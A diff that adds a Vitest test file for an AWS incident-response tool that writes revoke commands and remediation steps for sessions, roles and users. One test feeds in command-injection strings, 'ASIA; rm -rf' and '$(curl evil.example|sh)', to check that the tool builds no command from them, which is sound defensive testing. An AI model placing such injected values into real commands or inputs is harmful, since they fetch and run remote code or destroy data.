@@ -1,0 +1,133 @@
+import { describe, expect, it } from 'vitest';
+import { session, user } from '../../../scripts/callers.ts';
+import { address } from '../../../scripts/places.ts';
+import { callerIdentity, stsCall } from '../../../scripts/records.ts';
+import { irrevocable } from '../../../src/core/action/irrevocable.ts';
+import { usedSession } from '../../../src/core/action/used.ts';
+import type { Finding } from '../../../src/core/finding/finding.ts';
+import { eventOf } from '../../support/events.ts';
+
+const A = '111122223333';
+const KEY = 'ASIAEXAMPLEEXAMPLE12';
+const call = { at: '2026-06-01T12:00:00Z', from: address('hoster', 3), account: A };
+const by = (name: string, as: string, path = '/') =>
+  session({ role: { account: A, name, path }, session: as, key: KEY, issuedAt: '2026-06-01T11:00:00Z' });
+const used = (caller: ReturnType<typeof by>, lineage: Finding['lineage'] = []) => {
+  const told = usedSession(eventOf(callerIdentity({ ...call, by: caller })), lineage);
+  return told === undefined ? undefined : [told.summary, ...told.whatToDo].join('\n');
+};
+
+/** The issue of the key, as a finding's lineage has it. */
+const issued = (kind: 'service' | 'person', name: string): Finding['lineage'][number] => ({
+  accessKeyId: KEY,
+  actor: { key: `${kind}:${name}`, kind, name },
+  role: `arn:aws:iam::${A}:role/shop-task`,
+  accountId: A,
+  time: '2026-06-01T11:00:00.000Z',
+  expiresAt: null,
+  place: null,
+  network: null,
+  client: '',
+  finding: null,
+});
+
+describe('a call that issues nothing and uses a session', () => {
+  it('of an instance: its key, the command, and what new credentials need', () => {
+    const words = used(by('web-instance', 'i-0a1b2c3d4e5f60718'));
+    expect(words).toContain(KEY);
+    expect(words).toContain(`rolewarden revoke --role arn:aws:iam::${A}:role/web-instance`);
+    expect(words).toContain('stop and start, or attach another instance profile');
+    expect(words).not.toContain(`revoke ${KEY}`);
+    expect(words).toContain('; to end all sessions of the role: rolewarden revoke --role');
+    expect(words).not.toContain('undefined');
+  });
+
+  it('of a task, which only its issue tells: the same, and not the one session', () => {
+    const task = by('shop-task', '0123456789abcdef0123456789abcdef');
+    const words = used(task, [issued('service', 'ecs-tasks.amazonaws.com')]);
+    expect(words).toContain(`rolewarden revoke --role arn:aws:iam::${A}:role/shop-task`);
+    expect(words).toContain('held by ecs-tasks.amazonaws.com');
+    expect(words).toContain('ECS: a new deployment');
+    expect(words).not.toContain(`revoke ${KEY}`);
+    for (const other of [
+      issued('person', 'alice'),
+      { ...issued('service', 'x'), accessKeyId: 'ASIAOTHER' },
+    ]) {
+      expect(used(task, [other])).not.toContain('held by');
+      expect(used(task, [other])).toContain(`rolewarden revoke ${KEY}`);
+    }
+  });
+
+  it('of a service-linked role: what AWS lets nobody do, and of a role that only has such a name: the command', () => {
+    const linked = by('AWSServiceRoleForRDS', 'rds', '/aws-service-role/rds.amazonaws.com/');
+    expect(used(linked)).toContain('is a service-linked role');
+    expect(used(linked)).not.toContain('rolewarden revoke');
+    for (const name of ['AWSServiceRoleForBackdoor', 'AWSReservedSSO_Mine_0123456789abcdef']) {
+      expect(used(by(name, 'x'))).toContain(`rolewarden revoke --role arn:aws:iam::${A}:role/${name}`);
+    }
+  });
+
+  it('of a role: also the one session', () => {
+    const words = used(by('Deploy', 'alice'));
+    expect(words).toContain(`rolewarden revoke ${KEY}`);
+    expect(words).toContain(
+      `session ${KEY} of role Deploy in ${A} made the call and is still active; to end all sessions of the role: rolewarden revoke --role arn:aws:iam::${A}:role/Deploy`,
+    );
+    expect(words).not.toContain('instance profile');
+  });
+
+  it('of Identity Center: the steps there, and no command that cannot work', () => {
+    const words = used(
+      by('AWSReservedSSO_Admin_0123456789abcdef', 'alice@example.com', '/aws-reserved/sso.amazonaws.com/'),
+    );
+    expect(words).toContain('active sessions');
+    expect(words).not.toContain('revoke --role');
+  });
+
+  it('of a user: the user’s sessions; with a long-term key that key', () => {
+    const own = used({ ...user(A, 'bob'), accessKeyId: KEY });
+    expect(own).toContain(`rolewarden revoke --user arn:aws:iam::${A}:user/bob`);
+    expect(own).not.toContain(`End session ${KEY}`);
+    const words = used(user(A, 'bob'));
+    expect(words).toMatch(/AKIA\w+/);
+    expect(words).toContain('--status Inactive');
+    expect(words).not.toContain('rolewarden revoke');
+  });
+
+  it('says nothing where no key was used, and builds no command from odd values', () => {
+    expect(used({ type: 'AWSService', invokedBy: 'ec2.amazonaws.com' })).toBeUndefined();
+    expect(used({ ...by('Deploy', 'alice'), accessKeyId: 'ASIA; rm -rf' })).toBeUndefined();
+    expect(used({ ...user(A, 'bob'), accessKeyId: 'AKIA0$(curl evil.example|sh)' })).toBeUndefined();
+    const odd = used({ ...by('Deploy', 'alice'), arn: `arn:aws:sts::${A}:assumed-role/De$(x)/alice` });
+    expect(odd ?? '').not.toContain('$(x)');
+  });
+});
+
+describe('GetWebIdentityToken', () => {
+  it('is said to have issued a token that nobody can take back, and whose caller can be ended', () => {
+    const answered = { webIdentityTokenId: 'x', expiration: 'Jun 1, 2026, 1:00:00 PM' };
+    const asked = { audience: ['https://api.example.com'] };
+    const event = eventOf(
+      stsCall('GetWebIdentityToken', { ...call, by: by('Deploy', 'alice') }, asked, answered),
+    );
+    const why = irrevocable(event);
+    expect(why?.summary).toContain('AWS cannot take it back');
+    expect(why?.whatToDo.join('\n')).not.toContain('Nothing was issued');
+    expect(why?.whatToDo.join('\n')).toContain(`rolewarden revoke ${KEY}`);
+  });
+});
+
+describe('GetScopedCredentials', () => {
+  it('is said to have issued credentials that live in the caller’s own session', () => {
+    const scoped = 'ASIASCOPEDSCOPED1234';
+    const answered = { credentials: { accessKeyId: scoped, expiration: 'Jun 1, 2026, 1:00:00 PM' } };
+    const event = eventOf(
+      stsCall('GetScopedCredentials', { ...call, by: by('Deploy', 'alice') }, null, answered),
+    );
+    const why = irrevocable(event);
+    expect(why).toMatchObject({ reason: 'scoped', summary: expect.stringContaining(scoped) });
+    expect(why?.summary).not.toContain('issued no credentials');
+    expect(why?.whatToDo.join('\n')).toContain(`rolewarden revoke ${KEY}`);
+    expect(why?.whatToDo.join('\n')).toContain(`rolewarden revoke --role arn:aws:iam::${A}:role/Deploy`);
+  });
+});
